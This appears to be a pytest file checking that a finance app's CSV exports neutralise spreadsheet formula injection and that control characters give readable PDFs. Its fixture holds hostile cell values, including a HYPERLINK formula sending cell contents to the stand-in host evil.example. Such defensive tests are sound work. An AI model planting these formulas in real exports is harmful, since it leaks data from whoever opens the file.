"""#19: a booking whose payee, purpose and receipt number are spreadsheet formulas comes out as text in every
finance CSV (journal and proof of use, API and screen, every funder layout), and the amounts stay numbers."""

import csv
import io

import pytest

HOSTILE = {"receipt_number": "=1+1", "payee": '=HYPERLINK("http://evil.example/?"&A2,"Klick")',
           "purpose": "@SUM(A1:A9)"}
EXPENSE = {"project_id": "demo-stadtteilbuero-neugablonz", "booking_date": "2026-10-05", "category": "material",
           "position": "3", "amount": "100.01", **HOSTILE}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def _assert_safe(rows: list[list[str]], columns=tuple(HOSTILE)) -> None:
    for row in rows:
        for value in row:
            if value.startswith(DANGEROUS):  # only our own figures may start with a sign
                assert value[0] == "-" and value[1:].replace(",", "").replace(" %", "").isdigit(), (value, row)
    flat = [value for row in rows for value in row]
    for hostile in (HOSTILE[c] for c in columns):
        assert hostile not in flat and "'" + hostile in flat


@pytest.fixture
def hostile_booking(seeded, clerk):
    client, _ = seeded
    booked = client.post("/api/finance/expenses", headers=clerk, json=EXPENSE)
    assert booked.status_code == 201, booked.json
    reversed_ = client.post(f"/api/finance/expenses/{booked.json['id']}/reversal", headers=clerk,
                            json={"reason": "-Test"})
    assert reversed_.status_code == 201, reversed_.json
    return client


def test_the_journal_export_writes_formulas_as_text_and_amounts_as_numbers(hostile_booking, auth_header):
    for url in ("/api/finance/expenses/export?project_id=demo-stadtteilbuero-neugablonz",
                "/intern/finance/journal.csv"):
        resp = hostile_booking.get(url, headers={**auth_header("viewer"), "Accept": "text/html"})
        assert resp.status_code == 200 and resp.mimetype == "text/csv", url
        rows = _cells(resp.data)
        _assert_safe(rows)
        booking = next(r for r in rows if r[0] == "'=1+1")
        storno = next(r for r in rows if r[0] == "ST-=1+1")  # starts with S: nothing to guard
        assert booking[7] == "100,01" and storno[7] == "-100,01"  # numbers, no apostrophe
        assert storno[8] == "'=1+1"  # the receipt it reverses


@pytest.mark.parametrize(("funder", "columns"), [("demo-bund", ("payee", "purpose")),  # no receipt column
                                                 ("demo-esf-plus", tuple(HOSTILE)),
                                                 ("demo-stadt-kaufbeuren", tuple(HOSTILE))])
def test_each_proof_of_use_layout_writes_formulas_as_text(hostile_booking, clerk, funder, columns):
    for url in (f"/api/finance/proofs/demo-stadtteilbuero-neugablonz/{funder}.csv",
                f"/intern/finance/nachweise/demo-stadtteilbuero-neugablonz/{funder}.csv"):
        resp = hostile_booking.get(url, headers={**clerk, "Accept": "text/html"})
        assert resp.status_code == 200 and resp.mimetype == "text/csv", (url, resp.data[:300])
        rows = _cells(resp.data)
        _assert_safe(rows, columns)
        assert any(value.startswith("-") for row in rows for value in row)  # the storno's share, a number


def test_a_stored_control_character_gives_a_readable_proof_pdf(hostile_booking, seeded, clerk):
    """A booking stored with ESC and Word's soft line break (straight in the database, past the input rule)."""
    from pypdf import PdfReader
    from sqlalchemy import update

    from finance.adapters.orm import journal_entry

    _, runtime = seeded
    with runtime.engine.begin() as conn:
        conn.execute(update(journal_entry).where(journal_entry.c.receipt_number == "=1+1").values(
            payee="Druckerei\x1b Holzer", purpose="Flyer\x0bFest\x00"))
    for funder in ("demo-bund", "demo-esf-plus"):
        pdf = hostile_booking.get(f"/api/finance/proofs/demo-stadtteilbuero-neugablonz/{funder}.pdf", headers=clerk)
        assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
        text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.data)).pages)
        assert "Druckerei Holzer" in text and "Flyer Fest" in text and "\x1b" not in text
        csv_cells = _cells(hostile_booking.get(
            f"/api/finance/proofs/demo-stadtteilbuero-neugablonz/{funder}.csv", headers=clerk).data)
        assert "Flyer\nFest" in [c for row in csv_cells for c in row]
